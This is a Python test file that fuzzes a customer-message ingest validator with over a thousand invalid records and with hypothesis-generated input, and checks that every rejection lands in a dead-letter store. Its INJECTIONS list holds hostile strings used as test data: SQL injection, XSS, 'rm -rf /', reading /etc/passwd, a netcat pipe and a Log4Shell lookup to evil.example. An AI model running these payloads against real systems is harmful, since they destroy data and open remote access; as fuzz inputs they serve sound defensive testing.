"""Hostile input never breaks ingest: every bad record becomes a stored Rejection, for the right reason.

Two halves. A seeded corpus of well over 1,000 records, each invalid for one stated reason, is
checked reason by reason and stored in a real dead-letter store whose count must equal what was
sent. Then hypothesis throws arbitrary bytes, text and JSON at the validator: it must never raise,
never fault, and whatever it refuses must store. Hostile-looking *text* in an otherwise valid
message is accepted: it is just text.
"""

from __future__ import annotations

import json
import random
from collections import Counter
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.ingest.deadletter import DeadLetterStore
from pipeline.ingest.validate import IngestLimits, Reason, Rejection, Validator
from pipeline.schema import Message

SEED = 20260131
INJECTIONS = [
    "'; DROP TABLE dead_letters; --",
    "Robert'); DROP TABLE students;--",
    "1 OR 1=1",
    "\" OR \"\"=\"",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "$(rm -rf /)",
    "`cat /etc/passwd`",
    "; shutdown -h now",
    "| nc evil.example 4444",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%00%0d%0a",
    "../../../../etc/passwd",
    "\\u0000",
    "<!--#exec cmd=\"ls\"-->",
    "SELECT * FROM users WHERE '1'='1'",
]
ENGLISH = [
    "my parcel never arrived and nobody answers the phone",
    "I have been waiting three weeks for my refund",
    "your app logs me out every time I open my account",
    "the delivery driver left my package in the rain",
    "I was charged twice for the same order",
    "please escalate this, I want to speak to a manager",
]
FOREIGN = [
    "Hola, mi paquete nunca llegó y nadie contesta el teléfono, es la tercera vez que escribo",
    "Llevo tres semanas esperando el reembolso y nadie me da una respuesta clara",
    "Bonjour, mon colis n'est jamais arrivé et personne ne répond au téléphone depuis lundi",
    "Je suis très déçu du service client, j'attends un remboursement depuis trois semaines",
    "Hallo, mein Paket ist nie angekommen und niemand geht ans Telefon, das ist unglaublich",
    "Ich warte seit drei Wochen auf meine Rückerstattung und bekomme keine Antwort",
    "Olá, a minha encomenda nunca chegou e ninguém atende o telefone, estou muito chateado",
    "Ciao, il mio pacco non è mai arrivato e nessuno risponde al telefono da una settimana",
]
NAIVE_TIMES = ["2026-01-31T09:30:00", "2026-01-31 09:30", "2026-01-31T09:30:00.123456", "2017-10-31T22:10:47"]
C0 = [chr(c) for c in range(0x20) if chr(c) not in "\t\n\r"]


class Corpus:
    """Invalid records, each with the one reason it must be refused for."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.items: list[tuple[Any, Reason, str]] = []  # payload, expected reason, what it is
        self.serial = 0

    def uid(self) -> str:
        self.serial += 1
        return f"fz-{self.serial}"

    def good(self, **fields: Any) -> dict[str, Any]:
        return {"id": self.uid(), "text": self.rng.choice(ENGLISH), **fields}

    def add(self, payload: Any, reason: Reason, what: str) -> None:
        self.items.append((payload, reason, what))

    def as_wire(self, record: dict[str, Any]) -> Any:
        """The same record as a dict, JSON text or UTF-8 bytes, at random."""
        form = self.rng.randrange(3)
        if form == 0:
            return record
        text = json.dumps(record, ensure_ascii=self.rng.random() < 0.5)
        return text if form == 1 else text.encode("utf-8", "surrogatepass")

    def build(self) -> list[tuple[Any, Reason, str]]:
        rng = self.rng
        for _ in range(120):  # broken JSON
            text = json.dumps(self.good())
            cut = text[: rng.randrange(1, len(text) - 1)]
            breakage = rng.choice([
                cut, "x" + text, text + rng.choice(["}", ",", "x", "]"]), text.replace('"', "'"),
                text.replace('"id"', "id"), text[:-1] + ",}", "/* c */" + text, "\ufeff" + cut,
                text.replace(":", "=", 1), '{"id": "a", "text": "unterminated}',
            ])
            self.add(breakage.encode() if rng.random() < 0.5 else breakage, Reason.malformed_json, "broken JSON")
        for constant in ("NaN", "Infinity", "-Infinity"):
            for _ in range(10):
                self.add(f'{{"id": "{self.uid()}", "text": "hello there", "reach": {constant}}}',
                         Reason.malformed_json, "non-JSON constant")
        for _ in range(20):  # enormous numbers
            digits = "9" * rng.randrange(4400, 20000)
            self.add(f'{{"id": "{self.uid()}", "text": "hello", "reach": {digits}}}', Reason.malformed_json, "huge int")
        for depth in range(2000, 40_000, 2000):  # nesting deeper than any parser should go (within the size cap)
            opener, closer = rng.choice([("[", "]"), ('{"a":', "}")])
            self.add(opener * depth + closer * depth, Reason.malformed_json, "deep nesting")
        for _ in range(20):
            self.add(rng.choice(["", " ", "\n", "\t\t", "\ufeff", "\ufeff  "]), Reason.malformed_json, "empty record")
        for _ in range(60):  # valid JSON, not an object
            value = rng.choice([[1, 2], [], "text", 42, 3.5, True, False, None, [self.good()]])
            self.add(json.dumps(value), Reason.not_an_object, "JSON non-object")
        for _ in range(100):  # invalid UTF-8
            data = json.dumps(self.good()).encode()
            bad = rng.choice([b"\xff", b"\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\x80", b"\xf8\x88\x80\x80\x80",
                              b"\xe2\x82", b"\xf0\x9f\x98"])
            at = rng.randrange(len(data))
            self.add(data[:at] + bad + data[at:], Reason.invalid_encoding, "invalid UTF-8")
        for _ in range(10):  # oversized records
            self.add(json.dumps(self.good(blob="z" * rng.randrange(300_000, 600_000))).encode(),
                     Reason.oversized_record, "oversized record")
        for _ in range(40):  # missing fields
            record = self.good()
            del record[rng.choice(["id", "text"])]
            self.add(self.as_wire(record), Reason.missing_field, "missing field")
        wrong_values = [3, 2.5, True, [1], {"a": 1}, ["x", "y"]]
        for field in ("text", "id", "conversation_id", "customer_id", "channel", "author", "timestamp", "metadata"):
            for value in wrong_values:
                if field in ("id", "conversation_id", "customer_id") and type(value) is int:
                    continue  # integer ids are accepted
                if field == "timestamp" and type(value) in (int, float):
                    continue  # unix times are accepted
                if field == "metadata" and isinstance(value, dict):
                    continue
                for _ in range(3):
                    self.add(self.as_wire(self.good(**{field: value})), Reason.wrong_type, f"wrong type for {field}")
        for _ in range(50):  # blank text
            blank = "".join(rng.choice([" ", "\t", "\n", "\r", "\u00a0", "\u2003", "\u3000"])
                            for _ in range(rng.randrange(0, 12)))
            self.add(self.as_wire(self.good(text=blank)), Reason.empty_text, "blank text")
        for _ in range(40):  # oversized text
            self.add(self.as_wire(self.good(text="complaint " * rng.randrange(501, 5000))), Reason.oversized_text,
                     "oversized text")
        for _ in range(120):  # control characters and NUL
            text = rng.choice(ENGLISH)
            at = rng.randrange(len(text) + 1)
            self.add(self.as_wire(self.good(text=text[:at] + rng.choice(C0) + text[at:])), Reason.binary_text,
                     "control character in text")
        for _ in range(40):  # raw binary dumped into the text
            blob = bytes(rng.randrange(256) for _ in range(rng.randrange(8, 200))).decode("latin-1")
            self.add(self.good(text="attachment: " + blob + "\x00"), Reason.binary_text, "binary in text")
        for _ in range(60):  # lone surrogates, escaped in JSON or raw in a str
            surrogate = chr(rng.randrange(0xD800, 0xE000))
            record = self.good(text=f"broken {surrogate} emoji")
            escaped = json.dumps(record)  # ensure_ascii: the surrogate as a \\udxxx escape
            self.add(rng.choice([escaped, record]), Reason.binary_text, "lone surrogate")
        for _ in range(60):  # naive and impossible timestamps
            stamp = rng.choice(NAIVE_TIMES + ["2026-13-45T00:00:00+00:00", "yesterday", "1e999", "31/01/2026"])
            self.add(self.as_wire(self.good(timestamp=stamp)), Reason.invalid_field, "bad timestamp")
        for _ in range(40):  # values outside the enums
            field, value = rng.choice([("channel", "fax"), ("channel", "SOCIAL "), ("author", "bot"),
                                       ("author", rng.choice(INJECTIONS)), ("channel", rng.choice(INJECTIONS))])
            self.add(self.as_wire(self.good(**{field: value})), Reason.invalid_field, f"unknown {field}")
        for _ in range(60):  # ids that no store can keep
            bad_id = rng.choice(["", "   ", "x" * rng.randrange(129, 5000), "id\x00" + rng.choice(INJECTIONS),
                                 "a\x1bb", rng.choice(INJECTIONS) + "\x07"])
            self.add(self.as_wire(self.good(id=bad_id)), Reason.invalid_field, "bad id")
        for _ in range(30):  # metadata that does not survive JSON sinks
            meta = rng.choice([{"x": float("nan")}, {"x": float("inf")}, {"x": {1, 2}}, {"x": b"bytes"},
                               {"deep": json.loads("[" * 50 + "]" * 50)}])
            self.add(self.good(metadata=meta), Reason.invalid_field, "unserialisable metadata")
        for _ in range(40):  # confidently foreign
            self.add(self.as_wire(self.good(text=rng.choice(FOREIGN))), Reason.unsupported_language, "foreign text")
        for _ in range(30):  # injection strings in records invalid for another reason
            self.add(self.as_wire({"text": rng.choice(INJECTIONS) + " " + rng.choice(ENGLISH)}), Reason.missing_field,
                     "injection without id")
        return self.items


@pytest.fixture(scope="module")
def corpus() -> list[tuple[Any, Reason, str]]:
    return Corpus(SEED).build()


def test_over_a_thousand_hostile_records_become_stored_rejections_for_their_stated_reason(corpus, tmp_path):
    assert len(corpus) >= 1000
    validator = Validator()
    results = [(validator.validate(payload, source="fuzz"), reason, what) for payload, reason, what in corpus]
    wrong = [(what, expected.value, getattr(r, "reason", "ACCEPTED"), getattr(r, "detail", ""))
             for r, expected, what in results if not isinstance(r, Rejection) or r.reason != expected]
    assert wrong == []
    rejections = [r for r, _, _ in results]
    assert all(r.reason and r.detail and r.field and r.source == "fuzz" for r in rejections)

    store = DeadLetterStore(f"sqlite:///{tmp_path / 'fuzz.db'}")
    assert store.add_many(rejections) == len(corpus)
    assert store.count() == len(corpus)
    assert store.reasons() == dict(Counter(r.reason.value for r in rejections))
    stored = Counter(d.raw for d in store.recent(len(corpus)))
    assert stored == Counter(r.raw.replace("\x00", "\\x00") for r in rejections)
    store.close()


def test_duplicates_are_refused_and_stored(tmp_path):
    validator = Validator()
    corpus = Corpus(SEED + 1)
    records = [corpus.good() for _ in range(60)]
    assert all(isinstance(validator.validate(r), Message) for r in records)
    again = [validator.validate(corpus.as_wire(r), source="fuzz") for r in records]
    assert {(r.reason, r.field) for r in again} == {(Reason.duplicate_id, "id")}
    store = DeadLetterStore(f"sqlite:///{tmp_path / 'dup.db'}")
    store.add_many(again)
    assert store.count(Reason.duplicate_id) == 60
    store.close()


def test_hostile_looking_text_in_a_valid_message_is_accepted_as_text():
    rng = random.Random(SEED)
    validator = Validator()
    for n in range(200):
        text = f"{rng.choice(ENGLISH)} {rng.choice(INJECTIONS)} {rng.choice(ENGLISH)}"
        record = {"id": f"ok-{n}", "text": text, "customer_id": rng.choice(INJECTIONS)}
        message = validator.validate(json.dumps(record).encode())
        assert isinstance(message, Message), message
        assert message.text == text


# --- property-based: arbitrary input never breaks the validator ------------------------------------------

_HOSTILE_CHARS = st.sampled_from(["\x00", "\x1b", "\x7f", "\ud800", "\udfff", "\ufeff", "\u202e", '"', "\\", "{", "}"])
_TEXT = st.text(st.one_of(st.characters(codec=None), _HOSTILE_CHARS), max_size=300)
_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | _TEXT,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(_TEXT, children, max_size=4),
    max_leaves=20,
)
_FIELDS = ["id", "text", "channel", "author", "timestamp", "conversation_id", "customer_id", "metadata", "extra"]
_RECORDS = st.dictionaries(st.sampled_from(_FIELDS) | _TEXT, _JSON, max_size=8)
_NO_WINDOW = IngestLimits(duplicate_window=0)  # hypothesis repeats examples; repeats are not what is tested
_FUZZ = settings(max_examples=300, deadline=None, database=None, derandomize=True,
                 suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


@pytest.fixture(scope="module")
def property_store(tmp_path_factory):
    store = DeadLetterStore(f"sqlite:///{tmp_path_factory.mktemp('prop') / 'dead.db'}")
    yield store
    store.close()


def _check_and_store(result: Message | Rejection, store: DeadLetterStore) -> None:
    if isinstance(result, Message):
        result.model_dump_json()  # whatever was accepted serialises for the sinks
        return
    assert isinstance(result, Rejection)
    assert result.reason is not Reason.validator_fault, result.detail
    assert result.reason and result.detail and result.field
    before = store.count()
    store.add(result)
    assert store.count() == before + 1


@_FUZZ
@given(st.binary(max_size=2000))
def test_arbitrary_bytes(property_store, data):
    _check_and_store(Validator(_NO_WINDOW).validate(data, source="hypothesis"), property_store)


@_FUZZ
@given(_TEXT)
def test_arbitrary_text(property_store, text):
    _check_and_store(Validator(_NO_WINDOW).validate(text, source="hypothesis"), property_store)


@_FUZZ
@given(_RECORDS, st.sampled_from(["dict", "json", "bytes"]))
def test_arbitrary_records_in_any_form(property_store, record, form):
    payload: Any = record
    if form != "dict":
        try:
            payload = json.dumps(record)
        except (ValueError, TypeError):
            payload = record
        if form == "bytes" and isinstance(payload, str):
            payload = payload.encode("utf-8", "surrogatepass")
    _check_and_store(Validator(_NO_WINDOW).validate(payload, source="hypothesis"), property_store)
